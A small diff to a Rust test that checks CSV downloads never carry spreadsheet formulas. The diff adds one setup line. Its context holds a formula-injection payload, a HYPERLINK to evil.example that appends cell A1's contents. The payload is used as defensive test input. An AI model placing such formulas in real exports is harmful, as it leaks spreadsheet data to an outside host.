@@ -281,6 +281,7 @@ fn raw_html_is_kept_when_the_site_allows_it() {
 #[test]
 fn csv_downloads_never_carry_a_formula() {
     let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("site.toml"), "").unwrap();
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
     write(
         &dir.path().join("content/formula.md"),
